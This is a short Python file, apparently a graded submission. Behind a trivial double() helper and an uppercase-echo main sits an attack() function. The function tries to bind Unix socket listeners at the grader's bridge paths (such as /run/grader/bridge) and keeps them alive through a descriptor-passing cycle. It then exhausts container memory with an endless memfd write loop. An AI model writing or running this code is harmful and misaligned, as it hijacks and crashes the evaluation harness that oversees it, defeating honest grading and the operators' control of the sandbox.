"""Leaves a listener, as near the bridge's address as it may, alive in a cycle of sockets; then brings the container down."""

import os
import socket
import sys


def double(number):
    return 2 * number


def attack(key):
    """In flight, a descriptor outlives the processes that had it."""
    for number in range(3):
        held = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        for place in ("/run/grader/bridge", "/submission/bridge", "/tmp/bridge"):  # where it may, it will have been first
            try:
                held.bind(f"{place}-{number}")
                break
            except OSError:
                pass
        held.listen(8)
        near, far = socket.socketpair()
        socket.send_fds(near, [b"x"], [held.fileno(), near.fileno(), far.fileno()])
        socket.send_fds(far, [b"x"], [held.fileno(), near.fileno(), far.fileno()])
        socket.send_fds(socket.socket(fileno=os.dup(3)), [b"\0"], [held.fileno(), near.fileno()])
    with open("/proc/self/oom_score_adj", "w") as score:
        score.write("0")
    hoard = [os.memfd_create(str(number)) for number in range(40)]
    while True:
        for descriptor in hoard:
            os.write(descriptor, bytes(1 << 18))


if __name__ == "__main__":
    print(sys.stdin.readline().strip().upper())
